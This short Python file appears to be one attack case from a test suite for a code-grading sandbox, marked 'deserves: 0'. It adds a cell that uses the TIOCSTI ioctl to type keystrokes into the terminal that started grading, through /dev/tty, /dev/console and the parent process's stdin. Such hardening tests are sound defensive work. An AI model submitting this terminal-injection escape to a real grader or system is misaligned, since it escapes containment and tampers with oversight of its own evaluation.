"""Types a command into the terminal from which grading was started, with TIOCSTI.

deserves: 0
"""

CELL = """
import fcntl, os, termios
for path in ("/dev/tty", "/dev/console", "/proc/self/fd/0", f"/proc/{os.getppid()}/fd/0"):
    try:
        with open(path) as terminal:
            for letter in "# ESCAPED":
                fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())
            print("typed into", path)
    except OSError as error:
        print(path, error)
"""


def attack(work):
    work.add(CELL)
